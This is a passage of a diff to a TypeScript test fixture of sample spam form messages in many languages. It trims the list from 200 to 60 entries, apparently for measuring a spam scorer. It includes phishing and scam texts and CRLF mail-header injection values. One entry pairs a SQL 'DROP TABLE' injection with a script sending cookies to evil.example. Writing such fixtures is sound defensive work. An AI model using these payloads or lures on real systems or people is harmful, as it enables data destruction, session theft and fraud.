@@ -1,6 +1,6 @@
 import type { Post } from './people.ts'
 
-/** 200 messages as robots and cold sellers send them. Written before the scorer was measured against them. */
+/** 60 messages as robots and cold sellers send them. Written before the scorer was measured against them. */
 export const spam: readonly Post[] = [
   // Search engines
   [
@@ -10,34 +10,10 @@ export const spam: readonly Post[] = [
     'Hello, I was looking at your website and noticed it is not ranking on the first page of Google for your main keywords. We can help you get more traffic. Can I send you a free SEO audit?',
   ],
   [
-    'plumber',
-    'Jennifer',
-    'jennifer@seoteam.example',
-    'Hi there, we provide affordable SEO services starting at $99 per month. Increase your organic visibility and get on page 1. Reply for price list.',
-  ],
-  [
-    'plumber',
-    'David Clark',
-    'david.clark@gmail.com',
-    'Do you want to get more customers from Google? I found some technical errors on your site. Shall I send you a screenshot report?',
-  ],
-  [
     'photographer',
     'Emily Carter',
     'emilycarter.seo@gmail.com',
     'I just went through your website and found a few issues with on-page optimization that are holding it back in search results. Would you like a quote for fixing them?',
-  ],
-  [
-    'photographer',
-    'Alex',
-    'alex@outreach.example',
-    'Get 50 high DA backlinks for just $49. White hat only. DR 70+ guaranteed. Order at https://links.example/buy',
-  ],
-  [
-    'plumber',
-    'Local SEO',
-    'info@mapspack.example',
-    'Your Google Business Profile is not optimised. We guarantee top 3 in Google Maps within 30 days or your money back.',
   ],
   [
     'plumber',
@@ -46,40 +22,10 @@ export const spam: readonly Post[] = [
     'Dear Sir/Madam, We are a leading digital marketing company from India. Our services: SEO, SMO, PPC, website design & development, mobile app. Please share your phone number for detailed proposal. Thanks & regards',
   ],
   [
-    'photographer',
-    'Ankit',
-    'ankit.webexpert@outlook.com',
-    'Greetings of the day! Hope you are doing well. I can bring your website on top of Google ranking with our 100% white hat techniques. May I send package and price?',
-  ],
-  [
-    'hairdresser',
-    'Stefan Müller',
-    'stefan@topranking.example',
-    'Sehr geehrte Damen und Herren, Ihre Website wird bei Google kaum gefunden. Wir bringen Sie garantiert auf Seite 1. Gerne erstelle ich Ihnen eine kostenlose Analyse.',
-  ],
-  [
-    'hairdresser',
-    'Laura',
-    'laura@seo-agentur.example',
-    'Hallo, mit unserer Suchmaschinenoptimierung erhalten Sie mehr Besucher auf Ihrer Website. Angebot ab 99 € im Monat.',
-  ],
-  [
     'restaurant',
     'Julien',
     'julien@agence-web.example',
     'Bonjour, nous avons analysé votre site et son référencement naturel est faible. Nous pouvons le placer en première page de Google. Audit gratuit sur demande.',
-  ],
-  [
-    'restaurant',
-    'Marketing Pro',
-    'contact@visibilite.example',
-    'Boostez votre visibilité en ligne ! Plus de clients grâce à notre agence digitale. Demandez votre audit offert ici : https://visibilite.example/audit',
-  ],
-  [
-    'yoga',
-    'Carlos',
-    'carlos@seoespana.example',
-    'Hola, he visto su página web y no aparece en la primera página de Google. Ofrecemos posicionamiento SEO desde 150 euros al mes. ¿Le envío una auditoría gratuita?',
   ],
   [
     'yoga',
@@ -88,40 +34,10 @@ export const spam: readonly Post[] = [
     '¿Quiere más clientes? Aumentamos las visitas a su web en 30 días. Resultados garantizados. Responda SI.',
   ],
   [
-    'dentist',
-    'Roberto',
-    'roberto@webranking.example',
-    'Salve, il vostro sito non è posizionato bene su Google. Offriamo posizionamento SEO con risultati garantiti. Posso inviarvi un preventivo gratuito?',
-  ],
-  [
-    'dentist',
-    'Agenzia Digitale',
-    'info@piuclienti.example',
-    'Aumentate i vostri pazienti con campagne Facebook e Google Ads gestite da professionisti. Prima consulenza gratuita: https://piuclienti.example',
-  ],
-  [
     'carpenter',
     '株式会社ウェブ',
     'sales@webseo.example',
     '突然のご連絡失礼いたします。貴社サイトの検索順位を上位表示させるSEO対策をご提案しております。無料診断はこちら https://webseo.example/shindan',
-  ],
-  [
-    'carpenter',
-    '営業担当',
-    'eigyo@shukyaku.example',
-    'ホームページからの集客にお困りではありませんか。弊社サービスをご利用いただくと、問い合わせが平均3倍になります。資料を無料でお送りします。',
-  ],
-  [
-    'piano',
-    '마케팅팀',
-    'ad@topsearch.example',
-    '안녕하세요 대표님, 네이버 상위노출 보장해 드립니다. 월 30만원부터. 카톡 문의 주세요.',
-  ],
-  [
-    'piano',
-    '광고대행',
-    'blog@adking.example',
-    '블로그 체험단, 인스타 광고, 플레이스 순위 올려드립니다. 무료 상담 https://adking.example',
   ],
   [
     'plumber',
@@ -131,33 +47,9 @@ export const spam: readonly Post[] = [
   ],
   [
     'plumber',
-    'Ryan',
-    'ryan@leadflow.example',
-    'We have exclusive plumbing leads in Leeds, pay per lead, no contract. How many jobs can you handle a week?',
-  ],
-  [
-    'photographer',
-    'Nathan',
-    'nathan@scalefast.example',
-    'I help photographers book 10+ extra clients every month on autopilot. If I could do this for you risk free, would you be open to a 15 minute call? Book here: https://calendly.example/nathan',
-  ],
-  [
-    'plumber',
     'Monique',
     'monique@explainers.example',
     'We have produced over 500 explainer videos. Our prices start from just $195. Would you be interested in a video for your business? Reply with "yes" and your website.',
-  ],
-  [
-    'photographer',
-    'Web Design Team',
-    'design@newlook.example',
-    'Your website looks outdated. We can redesign your website with modern look at only $299. Mobile friendly, SEO friendly, free hosting.',
-  ],
-  [
-    'plumber',
-    'Ivan',
-    'ivan@devhouse.example',
-    'Dear business owner, are you looking for web development, mobile app development or software outsourcing? Our dedicated developers start at $15/hour.',
   ],
   [
     'plumber',
@@ -166,40 +58,10 @@ export const spam: readonly Post[] = [
     'Hi, would you be interested in redesigning your website? We are a web design company, we can show you our past work. Please let me know your budget.',
   ],
   [
-    'restaurant',
-    'Studio Web',
-    'hello@studioweb.example',
-    'Votre site mérite une refonte ! Création de site internet à partir de 299 €. Devis gratuit en 24h.',
-  ],
-  [
-    'hairdresser',
-    'Webdesign',
-    'info@neueseite.example',
-    'Ihre Internetseite wirkt veraltet. Wir erstellen moderne Webseiten ab 399 Euro. Jetzt unverbindlich anfragen: www.neueseite.example',
-  ],
-  [
-    'yoga',
-    'Diseño Web',
-    'hola@tuweb.example',
-    'Creamos tu nueva página web por solo 199€. Oferta válida hasta el viernes. https://tuweb.example/oferta',
-  ],
-  [
     'photographer',
     'James Miller',
     'james@guestposts.example',
     'Hello, I would like to publish a guest post on your website. I will pay $50. The article will contain one do-follow link. Please let me know your price.',
-  ],
-  [
-    'plumber',
-    'Content Team',
-    'anna@writers.example',
-    'Hi, I came across your blog and really enjoyed it. We would like to contribute a sponsored article with a dofollow backlink to our client in the home improvement niche. What are your rates?',
-  ],
-  [
-    'photographer',
-    'Olga',
-    'olga@linkinsert.example',
-    'Do you accept link insertion or paid posts? We have clients in casino, CBD and crypto niches. Please send prices.',
   ],
   [
     'restaurant',
@@ -208,40 +70,10 @@ export const spam: readonly Post[] = [
     'Bonjour, acceptez-vous les articles sponsorisés sur votre site avec un lien dofollow ? Quel est votre tarif ?',
   ],
   [
-    'hairdresser',
-    'Linktausch',
-    'kontakt@linktausch.example',
-    'Hätten Sie Interesse an einem Linktausch oder einem Gastbeitrag? Wir zahlen gut.',
-  ],
-  [
-    'agency',
-    'Peter',
-    'peter@whitelabel.example',
-    'We are a white label agency from Pakistan offering outsourcing to agencies like yours: content writing, graphic design, virtual assistants from $5/hr. Can we schedule a call?',
-  ],
-  [
     'agency',
     'DA Links',
     'sales@dalinks.example',
     'Buy backlinks cheap! 1000 dofollow links https://dalinks.example https://dalinks.example/vip https://dalinks.example/gold',
-  ],
-  [
-    'plumber',
-    'Traffic',
-    'bot@traffic.example',
-    'Get 10,000 real visitors to your website for $29. Try it free: http://traffic.example/trial',
-  ],
-  [
-    'photographer',
-    'Insta Growth',
-    'hi@growgram.example',
-    'We can grow your Instagram with 500 real followers every week. No bots. First week free. growgram.example',
-  ],
-  [
-    'yoga',
-    'Followers',
-    'seguidores@ig.example',
-    'Compra seguidores reales para tu Instagram. 1000 por 9,99€. www.seguidores.example',
   ],
   // Lists, mailings, robots' offers
   [
@@ -251,34 +83,10 @@ export const spam: readonly Post[] = [
     'We have a verified database of 2 million UK homeowners with emails and phone numbers. Special offer this week only. Interested? I will send counts and pricing.',
   ],
   [
-    'dentist',
-    'Lists',
-    'emily@targetlists.example',
-    'Would you be interested in an email list of Dentists, Orthodontists and Oral Surgeons across Europe? Let me know your target criteria for counts and cost.',
-  ],
-  [
-    'photographer',
-    'Form Blaster',
-    'blast@formblaster.example',
-    'Did you notice how you are reading this message? We can send your ad to millions of contact forms just like this one. Only $99 per million. Unsubscribe: https://formblaster.example/out',
-  ],
-  [
     'plumber',
     'Trudy',
     'trudy@contactads.example',
     'Want to submit your advertisement on thousands of advertising sites every month? Pay one flat rate and get virtually unlimited traffic forever! For details: http://adsites.example',
-  ],
-  [
-    'plumber',
-    'AI Assist',
-    'hello@aireception.example',
-    'Never miss a call again. Our AI receptionist answers 24/7 and books jobs straight into your calendar. Watch a 2 minute demo: https://aireception.example/demo',
-  ],
-  [
-    'restaurant',
-    'Digital Menu',
-    'sales@qrmenu.example',
-    'Increase your restaurant sales by 30% with our QR ordering system. Free trial for 30 days, no credit card required. https://qrmenu.example',
   ],
   [
     'dentist',
@@ -288,39 +96,9 @@ export const spam: readonly Post[] = [
   ],
   [
     'plumber',
-    'Amazon VA',
-    'va@remotestaff.example',
-    'Hire full time virtual assistants from the Philippines at $6 per hour. Data entry, customer support, social media. Reply to this email to get resumes.',
-  ],
-  [
-    'photographer',
-    'Promo Goods',
-    'promo@pens.example',
-    '500 custom printed pens only £89. Best prices on mugs, lanyards, tote bags. Request our catalogue. To unsubscribe reply STOP.',
-  ],
-  [
-    'plumber',
-    'Energy Desk',
-    'switch@bizenergy.example',
-    'Is your business overpaying for electricity? Companies like yours save up to 45%. Compare quotes at https://bizenergy.example and claim a £50 voucher.',
-  ],
-  [
-    'plumber',
     'Card Terminals',
     'sales@payterm.example',
     'Cut your card processing fees to 0.3%. Free terminal, no monthly cost. Call me back for a no obligation quote. Limited time offer.',
-  ],
-  [
-    'hairdresser',
-    'Kassen-Profi',
-    'vertrieb@kassen.example',
-    'Sparen Sie bis zu 60 % bei Kartenzahlung! Kostenloses Terminal, keine Grundgebühr. Jetzt Angebot sichern: https://kassen.example',
-  ],
-  [
-    'yoga',
-    'Software Gym',
-    'demo@gymsoft.example',
-    'Gestiona tu estudio con nuestro software. Prueba gratis de 30 días sin compromiso: https://gymsoft.example/demo',
   ],
   [
     'photographer',
@@ -328,42 +106,12 @@ export const spam: readonly Post[] = [
     'judges@businessawards.example',
     'Congratulations! Your company has been nominated for the Best Photography Studio 2026 award. To claim your trophy and winner package visit https://businessawards.example/claim',
   ],
-  [
-    'plumber',
-    'Trustmark',
-    'verify@bizlisting.example',
-    'Your business listing is about to expire. Confirm your details now to keep your listing active: http://bizlisting.example/renew?id=5521',
-  ],
   // Money
-  [
-    'plumber',
-    'Capital Fast',
-    'funding@fastcap.example',
-    'Need working capital? Get up to $500,000 in 24 hours. No credit check, no collateral. Apply at fastcap.example',
-  ],
   [
     'photographer',
     'Business Loans',
     'loans@bizfund.example',
     'We offer business loan and merchant cash advance with low interest rate of 2%. Contact us today with amount needed and duration.',
-  ],
-  [
-    'restaurant',
-    'Finance',
-    'pret@credit.example',
-    'Offre de prêt entre particuliers de 5 000 à 500 000 € au taux de 2 %. Réponse en 24h. Contactez-moi par mail : pret@credit.example',
-  ],
-  [
-    'yoga',
-    'Prestamos',
-    'prestamo@rapido.example',
-    'Ofrezco préstamos de 3.000 a 300.000 euros sin aval. Interés 2%. Escríbame por WhatsApp +229 5555 0101',
-  ],
-  [
-    'dentist',
-    'Finanza',
-    'prestiti@banca.example',
-    'Hai bisogno di un prestito veloce? Offriamo da 5000 a 200000 euro, tasso 2%. Contattaci su WhatsApp.',
   ],
   [
     'hairdresser',
@@ -373,33 +121,9 @@ export const spam: readonly Post[] = [
   ],
   [
     'plumber',
-    'Dr. James Obi',
-    'drjamesobi@yahoo.com',
-    'Dear friend, I am a barrister to a late client who left the sum of $12.5 million USD and has no next of kin. I seek your assistance to transfer this fund. You will receive 40%. Reply urgently and confidential.',
-  ],
-  [
-    'photographer',
-    'Mrs. Ruth Adams',
-    'mrsruth@aol.com',
-    'Greetings in the name of the Lord. I am a widow suffering from cancer and I wish to donate my late husband’s inheritance of 8 million dollars to you for charity work. Please reply for more details.',
-  ],
-  [
-    'plumber',
     'Crypto Prof',
     'win@cryptoprofit.example',
     'Turn $250 into $10,000 a week with our AI bitcoin trading robot. Register now: https://cryptoprofit.example/start',
-  ],
-  [
-    'photographer',
-    'Elon Giveaway',
-    'eth@giveaway.example',
-    'ETH giveaway! Send 1 ETH get 2 ETH back. Hurry only today https://eth-give.example',
-  ],
-  [
-    'agency',
-    'BTC Wallet',
-    'support@wallet.example',
-    'You have 1.3426 BTC in your account waiting for withdrawal. Log in to confirm >>> https://telegra.ph/wallet-login-11-20',
   ],
   [
     'dentist',
@@ -408,35 +132,10 @@ export const spam: readonly Post[] = [
     'Guadagna 500 euro al giorno con il trading online automatico. Iscriviti gratis: https://fxgain.example/it',
   ],
   [
-    'hairdresser',
-    'Krypto',
-    'info@kryptogewinn.example',
-    'Verdienen Sie 3.000 € pro Woche mit Bitcoin – ganz automatisch von zu Hause. Jetzt starten: https://kryptogewinn.example',
-  ],
-  [
-    'yoga',
-    'Inversor',
-    'inv@dinero.example',
-    'Gana dinero desde casa con criptomonedas. Mil euros a la semana, sin experiencia. https://dinero.example',
-  ],
-  [
-    'restaurant',
-    'Revenus',
-    'riche@revenu.example',
-    'Gagnez 3000€ par semaine depuis chez vous grâce au trading automatique : https://revenu.example',
-  ],
-  [
     'carpenter',
     '投資クラブ',
     'club@toushi.example',
     '仮想通貨で月収100万円。初心者でも安心。今すぐLINE登録 https://toushi.example/line',
-  ],
-  ['piano', '투자리딩', 'coin@leading.example', '코인 투자 수익률 300% 보장! 무료 리딩방 입장 https://leading.example'],
-  [
-    'plumber',
-    'Jake',
-    'jake@passive.example',
-    'Stop trading time for money. Discover how ordinary people make $4,753 a week in passive income. Free webinar tonight.',
   ],
   [
     'photographer',
@@ -445,57 +144,13 @@ export const spam: readonly Post[] = [
     'This stock is about to explode 1200%. Get in before Monday. Not financial advice. stockalert.example',
   ],
   // Gambling, pills, dating
-  [
-    'plumber',
-    'Casino',
-    'play@luckyspin.example',
-    'Play at the best online casino! 200 free spins + $1000 bonus, no deposit. https://luckyspin.example',
-  ],
-  [
-    'photographer',
-    '1xbet',
-    'promo@1xb.example',
-    '1xbet promo code 2026 sports betting bonus 100% https://1xb.example/promo',
-  ],
   ['hairdresser', 'Slots', 'slots@spielo.example', 'Online Casino ohne Lizenz mit 500 Freispielen! www.spielo.example'],
-  [
-    'dentist',
-    'Scommesse',
-    'bonus@scommesse.example',
-    'Casino online con bonus senza deposito 50 giri gratis https://scommesse.example',
-  ],
-  [
-    'restaurant',
-    'Casino FR',
-    'jeux@casino.example',
-    'Casino en ligne fiable, retrait instantané, bonus 500 € https://casino-fr.example',
-  ],
-  [
-    'yoga',
-    'Apuestas',
-    'bono@apuestas.example',
-    'Apuestas deportivas con bono de bienvenida de 200 € https://apuestas.example',
-  ],
   ['piano', '토토', 'toto@safe.example', '안전놀이터 먹튀검증 카지노사이트 첫충 30% https://safe.example'],
-  ['carpenter', 'カジノ', 'casino@jp.example', 'オンラインカジノ 初回入金ボーナス10万円 https://casino-jp.example'],
-  ['piano', '슬롯', 'slot@kr.example', '온라인 슬롯 바카라 신규 가입 쿠폰 3만'],
   [
     'plumber',
     'Pharma',
     'meds@pills.example',
     'Buy Viagra, Cialis, Xanax without prescription. Fast shipping worldwide. https://pills.example',
-  ],
-  [
-    'photographer',
-    'Ozempic',
-    'slim@slim.example',
-    'Lose 30 lbs in 30 days with this one weird trick doctors hate. Order GLP-1 drops now 70% off https://slim.example',
-  ],
-  [
-    'dentist',
-    'Farmacia',
-    'farma@online.example',
-    'Cialis generico 20 mg senza ricetta, spedizione anonima https://farma.example',
   ],
   [
     'yoga',
@@ -504,109 +159,32 @@ export const spam: readonly Post[] = [
     'Adelgaza 10 kilos en un mes con estas gomitas keto. 80% de descuento hoy: https://keto.example',
   ],
   [
-    'plumber',
-    'CBD',
-    'cbd@gummies.example',
-    'Premium CBD gummies for pain relief, buy 2 get 1 free. Shop now at cbdgummies.example',
-  ],
-  [
-    'plumber',
-    'Kristina',
-    'kristina1998@dating.example',
-    'Hi handsome, I saw your profile and I am alone tonight. My photos are here: https://hotmeet.example/kristina',
-  ],
-  [
-    'photographer',
-    'sexy Anna',
-    'anna@cams.example',
-    'Meet hot singles in your area now! Free adult dating https://cams.example',
-  ],
-  [
     'hairdresser',
     'Vika',
     'vika@treffen.example',
     'Heiße Frauen in deiner Nähe suchen Sex ohne Verpflichtung: https://treffen.example',
   ],
   [
-    'restaurant',
-    'Marina',
-    'marina@rencontre.example',
-    'Salut, je m’ennuie ce soir. Viens discuter avec moi sur https://rencontre.example/marina',
-  ],
-  ['plumber', 'Escorts', 'book@escorts.example', 'VIP escort service 24/7 in your city www.escorts.example'],
-  [
     'photographer',
     'OnlyFans Mgmt',
     'of@models.example',
     'We recruit models. Earn $10k a month on OnlyFans. Apply: https://ofmodels.example/apply',
   ],
-  ['carpenter', 'ゆみ', 'yumi@deai.example', '今夜会えますか？寂しいです。写真はこちら https://deai.example/yumi'],
   // Link lists and markup
-  [
-    'plumber',
-    'Robertlax',
-    'robert@mail.example',
-    '[url=https://shop.example]cheap shoes[/url] [url=https://bags.example]handbags[/url]',
-  ],
   [
     'photographer',
     'JamesTum',
     'james@tum.example',
     'https://a1.example https://a2.example https://a3.example https://a4.example',
   ],
-  [
-    'hairdresser',
-    'Davidpiorn',
-    'david@piorn.example',
-    '<a href="https://watches.example">replica watches</a> best quality',
-  ],
-  [
-    'restaurant',
-    'Thomasgox',
-    'thomas@gox.example',
-    'Check this https://bit.ly/3xYzAbC https://bit.ly/9ZyXwVu https://tinyurl.com/abcde',
-  ],
-  [
-    'yoga',
-    'Williamfak',
-    'will@fak.example',
-    'best essay writing service https://essay.example/ buy research paper https://papers.example/ do my homework https://hw.example/',
-  ],
   ['dentist', 'Michaelnaf', 'mich@naf.example', 'click here -> http://free-iphone.example/?id=22 <- winner'],
-  ['plumber', 'https://bestdeals.example', 'deals@best.example', 'Great deals today'],
-  [
-    'photographer',
-    'Louis Vuitton Outlet',
-    'lv@outlet.example',
-    'Louis Vuitton bags 85% off outlet sale www.lv-outlet.example free shipping',
-  ],
   ['plumber', 'RayBan', 'rb@sun.example', 'Ray-Ban sunglasses clearance $19.99 today only www.rb-sale.example'],
-  [
-    'agency',
-    'GregoryNex',
-    'greg@nex.example',
-    'essay help https://essay1.example and casino https://spin1.example and loans https://loan1.example',
-  ],
-  [
-    'piano',
-    'HenryVob',
-    'henry@vob.example',
-    'windows key cheap https://keys.example/win11 office 2024 https://keys.example/office',
-  ],
   [
     'carpenter',
     'Brianvah',
     'brian@vah.example',
     'xrumer blast https://forum1.example https://forum2.example https://forum3.example',
   ],
-  [
-    'plumber',
-    'Jasonhot',
-    'jason@hot.example',
-    'Look at this www.hot-news.example/article?ref=992 you will not believe it',
-  ],
-  ['photographer', 'APK', 'apk@mods.example', 'Download mod apk unlimited coins https://modapk.example/download'],
-  ['dentist', 'Streaming', 'iptv@tv.example', 'IPTV 4K 20000 canali 1 anno 39€ prova gratis https://iptv.example'],
   [
     'restaurant',
     'IPTV',
@@ -615,74 +193,23 @@ export const spam: readonly Post[] = [
   ],
   // Cyrillic to websites that do not use it
   [
-    'plumber',
-    'Алексей',
-    'aleksey@prodvizhenie.example',
-    'Здравствуйте! Предлагаем продвижение сайтов в поисковых системах. Гарантия результата. https://prodvizhenie.example',
-  ],
-  ['plumber', 'Мария', 'maria@baza.example', 'Продаем базы данных компаний для рассылки. Пишите в Телеграм @baza_sale'],
-  [
     'photographer',
     'Сергей',
     'sergey@kredit.example',
     'Срочный займ на карту без отказа за 5 минут https://zaim.example',
   ],
-  [
-    'hairdresser',
-    'Казино',
-    'vavada@kz.example',
-    'Вавада казино официальный сайт зеркало бонус за регистрацию https://vavada.example',
-  ],
-  [
-    'restaurant',
-    'Ольга',
-    'olga@rabota.example',
-    'Удаленная работа на дому, доход от 50000 рублей в неделю. Подробности на сайте rabota-doma.ru',
-  ],
   ['yoga', 'Дмитрий', 'dima@ssylki.example', 'Прогон хрумером, вечные ссылки, рост позиций. Недорого.'],
-  [
-    'dentist',
-    'Интернет-магазин',
-    'shop@shoes.example',
-    'Купить кроссовки со скидкой 70% доставка по всей России https://krossovki.example https://nike-sale.example',
-  ],
-  ['plumber', 'Крипта', 'kripta@btc.example', 'Обмен криптовалюты без комиссии лучший курс https://obmen.example'],
-  [
-    'photographer',
-    'Натяжные потолки',
-    'potolki@msk.example',
-    'Натяжные потолки в Москве от 199 рублей за метр. Замер бесплатно. Звоните!',
-  ],
   [
     'agency',
     'Раскрутка',
     'seo@rask.example',
     'Раскрутка сайта, накрутка подписчиков, продвижение ВКонтакте. Скидка 30% новым клиентам',
   ],
-  ['carpenter', 'Юрий', 'yuri@opt.example', 'Оптом из Китая, доставка карго, выкуп с 1688. Пишите в WhatsApp'],
-  [
-    'piano',
-    'Диплом',
-    'diplom@gos.example',
-    'Купить диплом о высшем образовании с занесением в реестр https://diplom.example',
-  ],
   [
     'plumber',
     'Знакомства',
     'znak@love.example',
     'Знакомства для взрослых без регистрации бесплатно https://znakom.example',
-  ],
-  [
-    'photographer',
-    'Эскорт',
-    'esc@msk.example',
-    'Работа для девушек, высокий заработок, жилье бесплатно. Телеграм @rabota_vip',
-  ],
-  [
-    'hairdresser',
-    'Рассылка',
-    'forms@rassylka.example',
-    'Рассылка по формам обратной связи! Это сообщение вы получили через форму. Закажите рассылку для вашего бизнеса.',
   ],
   // Suppliers from far away and advertisements in other languages
   [
@@ -692,62 +219,17 @@ export const spam: readonly Post[] = [
     'Dear Purchasing Manager, we are a professional manufacturer of brass valves and pipe fittings in China with 15 years experience. OEM accepted. MOQ 500 pcs. Please find our catalogue at www.valves-factory.example',
   ],
   [
-    'carpenter',
-    'Kevin Zhang',
-    'kevin@woodfloor.example',
-    'Hello manager, this is Kevin from Foshan. We supply SPC flooring, WPC decking with competitive factory price. Free samples available. WhatsApp: +86 138 0000 0000',
-  ],
-  [
-    'dentist',
-    'Amy',
-    'amy@dentalmed.example',
-    'Dear Sir, glad to know you are in dental line. We export dental chairs, handpieces, and consumables with CE. Shall I send the latest price list?',
-  ],
-  [
-    'hairdresser',
-    'Coco',
-    'coco@hairfactory.example',
-    'Hi dear, we are human hair vendor, wholesale wigs, bundles, lace frontal, factory price. Add my WhatsApp for catalog.',
-  ],
-  [
     'yoga',
     'Jack Li',
     'jack@yogamat.example',
     'Dear friend, we produce TPE yoga mat, custom logo, low MOQ, 7 days delivery. Please contact me for quotation.',
   ],
-  [
-    'restaurant',
-    'Chen',
-    'chen@boxpack.example',
-    'We are manufacturer of disposable food container and paper box in Ningbo. Price FOB 0.03 USD. Any interest please reply.',
-  ],
-  [
-    'plumber',
-    '陈经理',
-    'chen@waimao.example',
-    '您好，我们是专业外贸推广公司，提供谷歌推广、网站建设、海外客户开发，欢迎咨询微信 waimao888',
-  ],
   ['photographer', '发票', 'fapiao@cn.example', '代开发票，税点低，真实可查，联系电话13800000000 微信同号'],
-  ['carpenter', '物流', 'wuliu@cn.example', '中国到日本海运空运双清包税，价格优惠，欢迎咨询 https://wuliu.example'],
-  ['dentist', '王', 'wang@cn.example', '香港公司注册 银行开户 商标注册 一站式服务 QQ 123456789'],
   [
     'photographer',
     'علي',
     'ali@ads.example',
     'نقدم خدمات التسويق الالكتروني وتصميم المواقع بأفضل الأسعار تواصل معنا https://ads-ar.example',
-  ],
-  ['plumber', 'شركة', 'clean@sa.example', 'شركة تنظيف بالرياض خصم 50% اتصل الآن https://clean-sa.example'],
-  [
-    'yoga',
-    'Marketing Digital',
-    'vendas@br.example',
-    'Olá! Quer vender mais pela internet? Criamos campanhas de tráfego pago com resultado garantido. Chame no WhatsApp: https://wa.example/55119',
-  ],
-  [
-    'hairdresser',
-    'Tłumacz',
-    'oferta@pl.example',
-    'Dzień dobry, oferujemy pozycjonowanie stron i reklamy Google Ads. Bezpłatny audyt: https://pozycja.example',
   ],
   [
     'restaurant',
@@ -755,37 +237,16 @@ export const spam: readonly Post[] = [
     'reklam@tr.example',
     'Merhaba, işletmenizi Google’da ilk sayfaya taşıyalım. Ücretsiz analiz için https://reklam.example',
   ],
-  ['plumber', 'Thuy', 'seo@vn.example', 'Dịch vụ SEO lên top Google giá rẻ, cam kết kết quả https://seovn.example'],
-  ['photographer', 'ร้าน', 'shop@th.example', 'รับทำ SEO ติดหน้าแรก Google ราคาถูก สล็อตเว็บตรง https://th.example'],
   [
     'dentist',
     'Werbung',
     'vertrieb@werbung.example',
     'Wir verkaufen Ihnen qualifizierte Patientenanfragen in Ihrer Region, Abrechnung nur bei Erfolg. Termin buchen: https://patienten.example',
   ],
-  [
-    'piano',
-    'Global Trade',
-    'trade@global.example',
-    'Dear CEO, list your company in our B2B directory with 5 million buyers. Membership 50% off this month https://b2bdir.example',
-  ],
-  [
-    'carpenter',
-    'Sunny',
-    'sunny@led.example',
-    'We are LED light manufacturer, CE RoHS, factory direct sale. Looking forward to your inquiry.',
-  ],
   // The hidden field is filled in
   ['plumber', 'Anthony', 'anthony@gmail.com', 'Hello, nice website', 'https://spam1.example'],
-  ['photographer', 'Lee', 'lee@gmail.com', 'Thanks for the information', 'lee'],
-  ['hairdresser', 'Maria', 'maria@gmail.com', 'Interesting post, I will share it', 'http://x.example'],
-  ['restaurant', 'Jean', 'jean@gmail.com', 'Bonjour', 'jean.example'],
   ['yoga', 'test', 'test@test.example', 'test test test', 'test'],
-  ['dentist', 'asdf', 'asdf@gmail.com', 'asdf', 'asdf'],
-  ['carpenter', 'abc', 'abc@gmail.com', '1', '1'],
   ['piano', 'qwe', 'qwe@gmail.com', 'qwe', 'https://qwe.example'],
-  ['agency', 'Bot', 'bot@bot.example', 'I want to order', 'yes'],
-  ['plumber', 'Sam', 'sam@gmail.com', 'Do you have time to talk?', 'https://company.example'],
   // Lines for a mail header
   [
     'plumber',
@@ -794,67 +255,20 @@ export const spam: readonly Post[] = [
     'Content-Type: text/html\r\nBcc: list@example.com\r\n\r\n<a href="http://x.example">win</a>',
   ],
   [
-    'photographer',
-    'Eve',
-    'eve@example.com',
-    'to: a@example.com\ncc: b@example.com, c@example.com\nsubject: Free money\n\nVisit http://money.example and http://cash.example',
-  ],
-  [
-    'hairdresser',
-    'Multi',
-    'm@example.com',
-    'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=abc\nbcc: victims@example.com',
-  ],
-  ['restaurant', 'x%0ABcc:a@b.example', 'x@example.com', 'hello%0ABcc: everybody@example.com'],
-  [
     'agency',
     'Header',
     'h@example.com',
     "'; DROP TABLE messages; -- <script>document.location='https://evil.example/'+document.cookie</script>",
   ],
   // Robots that type anything
-  ['plumber', 'kJhGfDsAqWe', 'zxcvbn82736@gmail.com', 'pOiUyTrEwQlKjHgFdSa'],
-  ['photographer', 'XyZabQWRtyU', 'qpwoeiru@gmail.com', 'mNbVcXzLkJhGfDsA'],
   ['hairdresser', 'RtGhYuJkIoLp', 'hgjdkslw@gmail.com', 'qAzWsXeDcRfVtGbYhN'],
-  ['restaurant', 'wSxEdCrFvTgB', 'vbnmcxz@gmail.com', 'zAqXsWcDeVfRbGtNhY'],
-  ['yoga', 'LkjPoiMnbQwe', 'oiuytre@gmail.com', 'UjMiKoLpPlOkIjUhYg'],
   ['dentist', 'GfRtYhBvCdEs', 'tgbyhn@gmail.com', 'bGtFrDeSwAqZxCvBnM'],
   // Threats, phishing, tricks
-  [
-    'photographer',
-    'Melissa',
-    'mel@copyright.example',
-    'Hello! My name is Melissa. Your website uses images that I own the copyright to. See the evidence and delete them now or I will sue you: https://sites.google.com/view/id0938472/drive',
-  ],
-  [
-    'plumber',
-    'Anonymous',
-    'hacked@protonmail.example',
-    'We have hacked your website and extracted your databases. Send $3000 in bitcoin to bc1qxy2kgdy to stop us from leaking them. You have 72 hours.',
-  ],
-  [
-    'restaurant',
-    'Support',
-    'admin@webmail.example',
-    'Votre boîte mail est pleine. Cliquez ici pour confirmer votre compte sous 24h : https://webmail-verif.example',
-  ],
   [
     'hairdresser',
     'DHL',
     'paket@dhl-info.example',
     'Ihr Paket konnte nicht zugestellt werden. Bitte zahlen Sie 1,99 € Zollgebühr: https://dhl-zoll.example',
-  ],
-  [
-    'dentist',
-    'Meta Business',
-    'case@meta-help.example',
-    'Your Facebook page has violated our community standards and will be disabled. Appeal within 24 hours: https://meta-appeal.example/case',
-  ],
-  [
-    'yoga',
-    'Hacienda',
-    'aviso@aeat.example',
-    'Tiene una devolución pendiente de 348,20 euros. Confirme sus datos bancarios en https://aeat-devolucion.example',
   ],
   [
     'agency',
@@ -863,59 +277,17 @@ export const spam: readonly Post[] = [
     'FINAL NOTICE: Your domain search engine registration expires today. Failure to complete payment will result in cancellation. Pay securely: https://domreg.example/pay',
   ],
   [
-    'plumber',
-    'Prize',
-    'prize@walmart.example',
-    'You have been selected to receive a $1000 gift card! Complete the short survey https://gift.example',
-  ],
-  [
-    'photographer',
-    'Microsoft',
-    'ms@alerts.example',
-    'Your computer is infected. Call Microsoft support now at +1 800 555 0100',
-  ],
-  [
     'piano',
     '택배',
     'post@kr-post.example',
     '[우체국] 주소 불일치로 배송이 지연되었습니다. 확인하세요 https://post-kr.example',
   ],
-  [
-    'carpenter',
-    '国税庁',
-    'tax@nta.example',
-    '未払いの税金があります。本日中にお支払いください https://nta-pay.example',
-  ],
   // Cold offers that read almost like a person
-  [
-    'photographer',
-    'Hannah Lewis',
-    'hannah@podcasts.example',
-    'I host a business podcast with 40k downloads and think you would make a brilliant guest. There is a small production fee of $297. Interested?',
-  ],
-  [
